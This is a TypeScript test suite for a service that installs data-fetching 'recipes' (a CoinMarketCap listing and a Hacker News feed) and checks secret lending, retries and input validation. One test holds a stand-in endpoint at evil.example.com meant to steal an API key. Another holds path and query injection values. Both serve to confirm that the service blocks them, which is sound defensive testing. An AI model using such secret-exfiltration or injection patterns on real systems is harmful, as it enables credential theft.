import { randomUUID } from 'node:crypto';
import { beforeEach, describe, expect, test } from 'vitest';
import { openAsOwner } from '../../../../tests/support/owner-database.ts';
import { joinAs } from '../../../../tests/support/colleague.ts';
import { share } from '../../../../tests/support/share.ts';
import { startTestServer } from '../../../../tests/support/server.ts';
import { startSmallService, type ServiceRequest } from '../../../../tests/support/small-service.ts';

type Answer = { status?: number; headers?: Record<string, string>; body: unknown };
let answer: (asked: ServiceRequest) => Answer = () => ({ body: [] });
const web = share(() => startSmallService((asked) => answer(asked)));
const server = share(() => startTestServer({ THALAMUS_WEB_BASE_URL: web.url }));
const database = share(() => openAsOwner(server.connectionString));

const buildCoin = (symbol: string, more: object = {}) => ({
  name: `Coin ${symbol}`,
  symbol,
  last_updated: '2026-11-27T05:00:00.000Z',
  quote: { USD: { price: 67_543.5, market_cap: 1_330_000_000_000 } },
  ...more,
});
const buildListings = (...symbols: string[]) => ({
  status: { error_code: 0 },
  data: symbols.map((each) => buildCoin(each)),
});
const ten = ['BTC', 'ETH', 'USDT', 'BNB', 'SOL', 'XRP', 'USDC', 'ADA', 'DOGE', 'TRX'];

/** Installs a recipe into a brain of its own. It is read at once. */
async function install(slug: string, more: object = {}, key = server.key) {
  const { brain_id } = await server.ok('create_brain', { name: `Brain ${randomUUID()}` });
  const { install_id, state } = await server.ok('apply_starter_recipe', { slug, brain_id, ...more }, { key });
  return { install_id, brain_id, state };
}

/** Installs a recipe that is read only when the test says so: with a key that may not set up readings. */
async function installIdle(slug: string, more: object = {}) {
  const { key } = await server.ok('create_key', { label: 'Installer', scopes: ['recipes:install', 'pages:write'] });
  const installed = await install(slug, more, String(key));
  await database.rows(`update recipe_installs set state = 'active' where id = $1`, [installed.install_id]);
  return installed;
}
type InstallRef = Awaited<ReturnType<typeof install>>;

const run = ({ install_id }: InstallRef) => server.ok('run_recipe_install', { install_id });
const read = async ({ brain_id }: InstallRef) =>
  (await server.ok('query', { brain_id, type: 'crypto_coin_snapshot', limit: 100 })).pages;
const find = async ({ install_id, brain_id }: InstallRef) =>
  (await server.ok('list_recipe_installs', { brain_id })).installs.find((each) => each.install_id === install_id);
const makeDue = ({ install_id }: InstallRef) =>
  database.rows('update recipe_installs set next_at = now() where id = $1', [install_id]);

let made = 0;
/** Publishes an integration that reads items, and installs it. */
async function installReading(more: { endpoint?: object; mapping?: object; trigger?: object } = {}) {
  const slug = `items-${(made += 1)}`;
  const endpoint = { op: 'items', method: 'GET', url: 'https://items.example.com/items', ...more.endpoint };
  const mapping = { iterate: '$[*]', page_type: 'crypto_coin_snapshot', source_ref: '{{id}}', title: '{{id}}' };
  const trigger = { kind: 'cron', cron: '0 * * * *', ...more.trigger };
  await server.ok('publish_recipe_version', {
    recipe: { slug, name: slug, trigger, endpoints: [endpoint], mapping: { ...mapping, ...more.mapping } },
  });
  return installIdle(slug);
}

beforeEach(() => {
  web.asked.splice(0);
  answer = () => ({ body: [] });
});

describe('the example of the reference', () => {
  test('a recipe whose secret is missing waits for it', async () => {
    const { install_id, state } = await install('coinmarketcap-top10');
    expect(state).toBe('needs_setup');
    expect((await server.call('run_recipe_install', { install_id })).status).toBe(409);
  });

  test('a tick stores ten pages with exact source_ref and fields, and the same answer none', async () => {
    const hosts = ['pro-api.coinmarketcap.com'];
    await server.ok('set_variable', { var_scope: 'person', var_name: 'CMC_API_KEY', value: 'canary-cmc-1', hosts });
    answer = () => ({ body: buildListings(...ten) });
    const installed = await install('coinmarketcap-top10');
    await expect.poll(() => read(installed).then(({ length }) => length), { timeout: 15_000 }).toBe(10);
    expect(
      web.asked.map(({ path, headers }) => [headers['x-forwarded-host'], path, headers['x-cmc_pro_api_key']]),
    ).toEqual([['pro-api.coinmarketcap.com', '/v1/cryptocurrency/listings/latest?limit=10', 'canary-cmc-1']]);
    const pages = await read(installed);
    expect(pages.map(({ source_ref }) => source_ref).toSorted()).toEqual(
      ten.map((symbol) => `cmc:${symbol}@2026-11-27T05:00:00.000Z`).toSorted(),
    );
    const bitcoin = pages.find(({ source_ref }) => source_ref?.startsWith('cmc:BTC'));
    expect(bitcoin).toMatchObject({
      type: 'crypto_coin_snapshot',
      title: 'Coin BTC (BTC) — $67543.5',
      frontmatter: {
        symbol: 'BTC',
        price_usd: '67543.5',
        market_cap_usd: '1330000000000',
        last_updated: '2026-11-27T05:00:00.000Z',
      },
    });
    const state = await database.rows('select id, xmin from pages order by id');
    expect(await run(installed)).toMatchObject({ requests: 1, retries: 0, items: 10, pages: 0, errors: [] });
    answer = () => ({ body: { data: ten.map((symbol) => buildCoin(symbol, { name: 'Renamed' })) } });
    expect(await run(installed)).toMatchObject({ items: 10, pages: 0 });
    expect(await database.rows('select id, xmin from pages order by id')).toEqual(state);
    expect(await find(installed)).toMatchObject({
      state: 'active',
      failure: null,
      counters: { requests: 3, retries: 0, items: 30, pages: 10, bytes: expect.any(Number) },
    });
    expect(new Date(String((await find(installed))?.next_at)).getUTCMinutes()).toBe(0);
    expect(JSON.stringify(await find(installed))).not.toContain('canary-cmc-1');
  });

  test('the secret goes only to the host of its endpoint, and auth sends nothing', async () => {
    const auth = { type: 'api_key', header: 'X-Key', secret_name: 'CMC_API_KEY' };
    const slug = `auth-${(made += 1)}`;
    const endpoints = [{ op: 'a', method: 'GET', url: 'https://a.example.com/' }];
    const mapping = { iterate: '$', page_type: 'x', source_ref: 'x', title: 'x' };
    const trigger = { kind: 'cron', cron: '0 * * * *' };
    await server.ok('publish_recipe_version', { recipe: { slug, name: slug, auth, trigger, endpoints, mapping } });
    await run(await installIdle(slug));
    expect(web.asked[0]?.headers['x-key']).toBeUndefined();
    const steals = { url: 'https://evil.example.com/', headers: { 'X-Key': '{{publisher.CMC_API_KEY}}' } };
    const stealing = await installReading({ endpoint: steals });
    const { body } = await server.call('run_recipe_install', { install_id: stealing.install_id });
    expect(body['detail']).toContain('may not be sent to evil.example.com');
    expect(web.asked.map(({ headers }) => headers['x-forwarded-host'])).not.toContain('evil.example.com');
  });
});

test('a recipe without an account is read, too', async () => {
  answer = () => ({
    body: {
      hits: [{ objectID: '42', title: 'Show HN: Thalamus', url: 'https://t.example', author: 'ada', points: 7 }],
    },
  });
  const installed = await installIdle('hacker-news-front');
  expect(await run(installed)).toMatchObject({ items: 1, pages: 1 });
  const { pages } = await server.ok('query', { brain_id: installed.brain_id, type: 'hacker_news_story' });
  expect(pages).toMatchObject([{ source_ref: 'hn:42', title: 'Show HN: Thalamus', frontmatter: { points: '7' } }]);
});

describe('what an answer may be', () => {
  const items =
    (body: unknown, more: object = {}) =>
    () => ({ body, ...more });

  test('no digit of a number is lost', async () => {
    answer = items('[{"id": 12345678901234567890, "price": 0.12345678901234567890123, "whole": 5.0, "yes": true}]');
    const frontmatter = { price: '{{price}}', whole: '{{whole}}', yes: '{{yes}}', none: '{{none.deep}}' };
    const installed = await installReading({ mapping: { frontmatter } });
    await run(installed);
    expect(await read(installed)).toMatchObject([
      {
        source_ref: '12345678901234567890',
        frontmatter: { price: '0.12345678901234567890123', whole: '5', yes: 'true', none: '' },
      },
    ]);
  });

  test('an item without a value for its identity becomes no page, and is named', async () => {
    answer = items([{ id: 'a' }, { name: 'no id' }, { id: 'a', again: true }, 'text', null]);
    const installed = await installReading();
    const result = await run(installed);
    expect(result).toMatchObject({ items: 5, pages: 1 });
    expect(result.errors).toEqual([2, 4, 5].map((n) => `Item ${n}: it has no id, which source_ref needs.`));
    expect(await find(installed)).toMatchObject({ state: 'active', failure: expect.stringContaining('Item 2') });
  });

  test.for<[string, () => Answer, string]>([
    ['no JSON', items('<html>'), 'not JSON'],
    ['a redirect', items('', { status: 302, headers: { location: 'https://other.example.com/' } }), 'redirects'],
    ['4xx', items({ message: 'bad key' }, { status: 401 }), '401'],
    ['too many items', items(Array.from({ length: 10_001 }, (_, id) => ({ id }))), '10000 items'],
    ['JSON that is nested too deeply', items('['.repeat(101) + ']'.repeat(101)), '100 levels'],
    ['over 10 MB', items([{ id: 'x'.repeat(10_100_000) }]), 'bytes'],
  ])('%s is an error, and old pages stay', async ([, wrong, said]) => {
    answer = items([{ id: 'old' }]);
    const installed = await installReading();
    await run(installed);
    answer = wrong;
    const { status, body } = await server.call('run_recipe_install', { install_id: installed.install_id });
    expect([status, body['code'], body['detail']]).toEqual([502, 'upstream_failed', expect.stringContaining(said)]);
    expect(await read(installed)).toHaveLength(1);
    expect(await find(installed)).toMatchObject({ state: 'failing', failure: expect.stringContaining(said) });
    answer = items([{ id: 'new' }]);
    expect(await run(installed)).toMatchObject({ pages: 1 });
    expect(await find(installed)).toMatchObject({ state: 'active', failure: null });
  });

  test('a service that is down for a moment is asked again, and the attempts are counted', async () => {
    let asked = 0;
    answer = () => ((asked += 1) < 3 ? { status: 503, body: 'down' } : { body: [{ id: 1 }] });
    const installed = await installReading();
    expect(await run(installed)).toMatchObject({ requests: 3, retries: 2, pages: 1 });
  });

  test('a service that asks for a pause is not asked before then', async () => {
    answer = () => ({ status: 429, headers: { 'retry-after': '7200' }, body: '' });
    const installed = await installReading();
    await server.call('run_recipe_install', { install_id: installed.install_id });
    expect(web.asked).toHaveLength(1);
    const next = new Date(String((await find(installed))?.next_at)).getTime();
    expect(next).toBeGreaterThan(Date.now() + 7_000_000);
  });
});

describe('secrets and inputs', () => {
  const secret = { headers: { 'X-Key': 'Key {{publisher.LENT_KEY}}' } };

  test('publishing lends the variable of the publisher to the installs of everybody', async () => {
    await server.ok('set_variable', { var_scope: 'person', var_name: 'LENT_KEY', value: 'canary-lent-1' });
    const installed = await installReading({ endpoint: secret });
    const ida = await joinAs(server, database, 'ida@example.com');
    await server.ok('invite_member', {
      brain_id: installed.brain_id,
      email: 'ida@example.com',
      access_level: 'editor',
    });
    await database.rows('update recipe_installs set person_id = $1 where id = $2', [
      ida.personId,
      installed.install_id,
    ]);
    answer = () => ({ body: [{ id: 1 }] });
    expect(await ida.ok('run_recipe_install', { install_id: installed.install_id })).toMatchObject({ pages: 1 });
    expect(web.asked[0]?.headers['x-key']).toBe('Key canary-lent-1');
    await makeDue(installed);
    await expect.poll(() => web.asked.length, { timeout: 15_000 }).toBe(2);
    await server.ok('delete_variable', { var_scope: 'person', var_name: 'LENT_KEY' });
    const { body } = await ida.call('run_recipe_install', { install_id: installed.install_id });
    expect(body).toMatchObject({ code: 'conflict', detail: expect.stringContaining('does not lend LENT_KEY') });
    expect(web.asked).toHaveLength(2);
  });

  test('a lent variable that an agent has written since is not sent', async () => {
    await server.ok('set_variable', { var_scope: 'person', var_name: 'AGENT_KEY', value: 'canary-agent-1' });
    const installed = await installReading({ endpoint: { headers: { 'X-Key': '{{publisher.AGENT_KEY}}' } } });
    await database.rows(`update variables set set_by_kind = 'agent' where name = 'AGENT_KEY'`);
    expect((await server.call('run_recipe_install', { install_id: installed.install_id })).status).toBe(409);
    expect(web.asked).toEqual([]);
  });

  test('an input cannot leave its place in the address', async () => {
    const slug = `inputs-${(made += 1)}`;
    const endpoints = [
      { op: 'a', method: 'GET', url: 'https://a.example.com/v1/{{inputs.team}}/items?q={{inputs.q}}' },
    ];
    const mapping = { iterate: '$[*]', page_type: 'x', source_ref: '{{inputs.team}}:{{id}}', title: '{{inputs.team}}' };
    const inputs = [{ name: 'team', required: true }, { name: 'q' }];
    const trigger = { kind: 'cron', cron: '0 * * * *' };
    await server.ok('publish_recipe_version', { recipe: { slug, name: slug, inputs, trigger, endpoints, mapping } });
    await expect(installIdle(slug)).rejects.toThrow('team');
    const { install_id } = await installIdle(slug, { inputs: { team: 'x' } });
    const missing = await server.call('update_recipe_install', { install_id, inputs: { q: 'x', other: 'y' } });
    expect(missing.body['detail']).toContain('inputs.other');
    const emptied = await server.call('update_recipe_install', { install_id, inputs: { team: '' } });
    expect(emptied.body['detail']).toContain('team');
    await server.ok('update_recipe_install', { install_id, inputs: { team: 'a/../b', q: '1&admin=1' } });
    answer = () => ({ body: [{ id: 1 }] });
    await server.call('run_recipe_install', { install_id });
    await expect.poll(() => web.asked.length).toBeGreaterThan(0);
    expect(new Set(web.asked.map(({ path }) => path))).toEqual(new Set(['/v1/a%2F..%2Fb/items?q=1%26admin%3D1']));
  });
});

test.for<[string, object]>([
  ['a path that is none', { mapping: { iterate: '$.data[' } }],
  ['a path with a pattern', { mapping: { iterate: "$[?match(@.a, 'a*')]" } }],
  ['a format', { mapping: { title: '{{price:.2f}}' } }],
  ['a value of the run', { endpoint: { url: 'https://a.example.com/?hour={{run_iso_hour}}' } }],
  ['a host that depends on a value', { endpoint: { url: 'https://{{inputs.host}}/' } }],
  ['a method that may change something', { endpoint: { method: 'POST' } }],
  ['a schedule that is none', { trigger: { kind: 'cron', cron: 'hourly' } }],
])('a recipe with %s cannot be published', async ([, more]) => {
  await expect(installReading(more)).rejects.toThrow('invalid_input');
});

describe('who reads, and what may be read', () => {
  test('a rule of the workspace that blocks the host blocks readings', async () => {
    const { version, rules } = await server.ok('get_policy');
    const blocked = { effect: 'block', sources: ['http'], target: 'GET items.example.com/blocked*' };
    await server.ok('set_policy', { version, rules: [blocked, ...rules] });
    const installed = await installReading({ endpoint: { url: 'https://items.example.com/blocked/1' } });
    expect((await server.call('run_recipe_install', { install_id: installed.install_id })).status).toBe(403);
    await makeDue(installed);
    await expect.poll(async () => (await find(installed))?.state, { timeout: 15_000 }).toBe('failing');
    expect(web.asked).toEqual([]);
  });

  test('a paused install is not read, and an activated one is read at once', async () => {
    answer = () => ({ body: [{ id: 1 }] });
    const installed = await installReading();
    const paused = await server.ok('update_recipe_install', { install_id: installed.install_id, state: 'paused' });
    expect(paused).toMatchObject({ state: 'paused', next_at: null });
    expect((await server.call('run_recipe_install', { install_id: installed.install_id })).status).toBe(409);
    await server.ok('update_recipe_install', { install_id: installed.install_id, state: 'active' });
    await expect.poll(() => read(installed).then(({ length }) => length), { timeout: 15_000 }).toBe(1);
  });
});
